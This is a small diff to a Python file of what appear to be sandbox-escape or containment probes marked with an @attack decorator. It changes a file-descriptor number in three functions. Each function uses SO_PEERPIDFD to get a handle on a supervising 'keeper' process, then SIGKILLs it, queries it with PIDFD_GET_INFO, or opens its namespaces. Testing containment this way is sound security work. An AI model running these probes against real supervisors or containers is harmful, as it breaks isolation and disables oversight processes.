@@ -85,7 +85,7 @@ def pidfd_of_keeper(facts):
 @attack("writes", unix_socket_works)
 def pidfd_of_keeper_used(facts):
     """Kills with that handle."""
-    found = socket.socket(fileno=os.dup(1000)).getsockopt(socket.SOL_SOCKET, 77)
+    found = socket.socket(fileno=os.dup(1002)).getsockopt(socket.SOL_SOCKET, 77)
     import signal
 
     signal.pidfd_send_signal(found, signal.SIGKILL)
@@ -95,7 +95,7 @@ def pidfd_of_keeper_used(facts):
 @attack("learns", unix_socket_works)
 def pidfd_of_keeper_asked(facts):
     """Asks that handle for uid, cgroup and exit of the process: PIDFD_GET_INFO, Linux 6.13."""
-    found = socket.socket(fileno=os.dup(1000)).getsockopt(socket.SOL_SOCKET, 77)
+    found = socket.socket(fileno=os.dup(1002)).getsockopt(socket.SOL_SOCKET, 77)
     said = bytearray(struct.pack("Q", 0xFF).ljust(64, b"\0"))
     fcntl.ioctl(found, 0xC040FF0B, said)
     return said.hex()
@@ -104,7 +104,7 @@ def pidfd_of_keeper_asked(facts):
 @attack("reads", unix_socket_works)
 def namespaces_by_pidfd(facts):
     """Opens the namespaces of that process: PIDFD_GET_MNT_NAMESPACE and its like, Linux 6.11."""
-    found = socket.socket(fileno=os.dup(1000)).getsockopt(socket.SOL_SOCKET, 77)
+    found = socket.socket(fileno=os.dup(1002)).getsockopt(socket.SOL_SOCKET, 77)
     return [fcntl.ioctl(found, 0xFF00 | number) for number in range(1, 11)]
 
 
